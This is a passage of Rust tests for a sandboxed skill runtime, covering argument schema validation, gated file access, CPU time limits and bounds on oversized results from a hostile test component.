            limits,
            stdin: false,
            stdout: Sink::Memory(Arc::default()),
            stderr: Sink::Memory(Arc::default()),
            stop: Default::default(),
        },
    )
}

fn returned(called: &cordon_skills::Called) -> (Value, bool) {
    let returned = called.returned.as_ref().unwrap();
    (returned.value.clone(), returned.error)
}

#[test]
fn a_components_exported_functions_are_offered_with_their_schemas_and_called() {
    let (_, prepared) = functions();
    let offered: Vec<(&str, &str)> = prepared
        .functions()
        .iter()
        .map(|f| (f.name.as_str(), f.signature.as_str()))
        .collect();
    assert_eq!(
        offered,
        [
            (
                "convert",
                "convert: func(text: string, style: enum { upper, lower, title }) -> string"
            ),
            ("notes.read", "read: func(path: string) -> result<string, string>"),
            ("notes.remove", "remove: func(path: string) -> result<_, string>"),
            ("spin", "spin: func()"),
            (
                "stats",
                "stats: func(text: string) -> record { words: u32, lines: u32, longest: option<string> }"
            ),
        ]
    );
    let convert = &prepared.functions()[0];
    assert_eq!(
        convert.input_schema,
        serde_json::json!({
            "type": "object",
            "properties": {
                "text": {"type": "string"},
                "style": {"type": "string", "enum": ["upper", "lower", "title"]},
            },
            "required": ["text", "style"],
            "additionalProperties": false,
        })
    );

    let nothing = || TestGate::new(|_, _, _| false);
    let called = |name: &str, arguments: Value| {
        returned(&call(name, arguments, Vec::new(), nothing(), Limits::default()).unwrap())
    };
    assert_eq!(
        called("stats", serde_json::json!({"text": "a bb\nccc"})),
        (
            serde_json::json!({"words": 3, "lines": 2, "longest": "ccc"}),
            false
        )
    );
    assert_eq!(
        called("stats", serde_json::json!({"text": ""})),
        (
            serde_json::json!({"words": 0, "lines": 0, "longest": null}),
            false
        )
    );
    assert_eq!(
        called(
            "convert",
            serde_json::json!({"text": "hello world", "style": "title"})
        ),
        (serde_json::json!("Hello World"), false)
    );

    // Arguments that do not fit are refused before the component runs, each named.
    for (arguments, why) in [
        (
            serde_json::json!({"text": "x"}),
            "the argument `style` is missing",
        ),
        (
            serde_json::json!({"text": "x", "style": "bold"}),
            "argument `style`: no case `bold`",
        ),
        (
            serde_json::json!({"text": 3, "style": "upper"}),
            "argument `text`: expected a string, found a number",
        ),
        (
            serde_json::json!({"text": "x", "style": "upper", "extra": 1}),
            "`convert` takes no argument `extra`",
        ),
        (
            serde_json::json!([1]),
            "the arguments are not an object: an array",
        ),
    ] {
        match call(
            "convert",
            arguments,
            Vec::new(),
            nothing(),
            Limits::default(),
        ) {
            Err(cordon_skills::Error::Arguments(message)) => assert_eq!(message, why),
            other => panic!("{why}: {other:?}"),
        }
    }
}

#[test]
fn a_functions_file_opens_are_decided_and_its_limits_hold() {
    let (_dir, root, preopens) = workspace();
    let note = root.join("notes/b.txt").display().to_string();
    let gate = reads_inside(&root.join("notes"));
    let read = call(
        "notes.read",
        serde_json::json!({"path": "/data/notes/b.txt"}),
        preopens.clone(),
        gate.clone(),
        Limits::default(),
    )
    .unwrap();
    assert_eq!(
        returned(&read),
        (serde_json::json!("one two three\n"), false)
    );
    // A file of the grant the gate refuses is not read: `err` comes back as the error.
    let refused = call(
        "notes.remove",
        serde_json::json!({"path": "/data/notes/b.txt"}),
        preopens.clone(),
        gate.clone(),
        Limits::default(),
    )
    .unwrap();
    assert!(returned(&refused).1);
    assert!(root.join("notes/b.txt").exists());
    let denied = gate.denied();
    assert_eq!(denied.len(), 1, "{denied:?}");
    assert_eq!(denied[0].1["path"], note);

    // A function that computes forever is stopped by the processor-time limit, named.
    let limits = Limits {
        cpu: Duration::from_millis(200),
        ..Limits::default()
    };
    let spun = call("spin", serde_json::json!({}), Vec::new(), gate, limits).unwrap();
    assert!(spun.returned.is_none());
    assert!(
        matches!(spun.exit.stopped, Some(Stopped::Cpu { .. })),
        "{:?}",
        spun.exit
    );
}

#[test]
fn a_command_and_a_library_are_each_prepared_as_what_they_are() {
    let runtime = Runtime::new(&RuntimeOptions::default()).unwrap();
    let hello = SkillFile::read(&skill_path("hello")).unwrap();
    match runtime.prepare_functions(hello) {
        Err(err @ cordon_skills::Error::NoFunctions { .. }) => {
            assert!(err.to_string().contains("exports no function"), "{err}");
        }
        other => panic!("{other:?}"),
    }
    let textkit = SkillFile::read(&skill_path("textkit")).unwrap();
    let prepared = runtime.prepare(textkit).map(|_| ());
    assert!(
        matches!(prepared, Err(cordon_skills::Error::NotCommand { .. })),
        "{prepared:?}"
    );
}

#[test]
fn a_hostile_library_cannot_swell_its_types_or_its_result_past_the_bounds() {
    let runtime = Runtime::new(&RuntimeOptions::default()).unwrap();
    let skill = SkillFile::read(&skill_path("hostile_tools")).unwrap();
    let prepared = runtime.prepare_functions(skill).unwrap();
    // A parameter of 32,768 parts is not described: the function is left out, at once.
    let names: Vec<&str> = prepared
        .functions()
        .iter()
        .map(|f| f.name.as_str())
        .collect();
    assert_eq!(names, ["bigres", "leak", "nap"]);
    let bigres = &prepared.functions()[0];
    let call = |n: u32| {
        runtime
            .call(
                &prepared,
                bigres,
                &serde_json::json!({ "n": n }),
                Run {
                    args: Vec::new(),
                    env: Vec::new(),
                    preopens: Vec::new(),
                    gate: TestGate::new(|_, _, _| false),
                    limits: Limits::default(),
                    stdin: false,
                    stdout: Sink::Memory(Arc::default()),
                    stderr: Sink::Memory(Arc::default()),
                    stop: Default::default(),
                },
            )
            .unwrap()
    };
    let small = call(3);
    assert_eq!(
        returned(&small),
        (
            serde_json::json!([{"ok": null}, {"ok": null}, {"ok": null}]),
            false
        )
    );
    // A million results of a byte each swell to hundreds of megabytes on the host: no more
    // is copied out of the component than a message may carry.
    let large = call(1_000_000);
    assert!(large.returned.is_none());
    let stopped = large
        .exit
        .stopped
        .map(|s| s.to_string())
        .unwrap_or_default();
    assert!(
        stopped.contains("too much data is being copied between the host and the guest"),
        "{stopped}"
    );
}
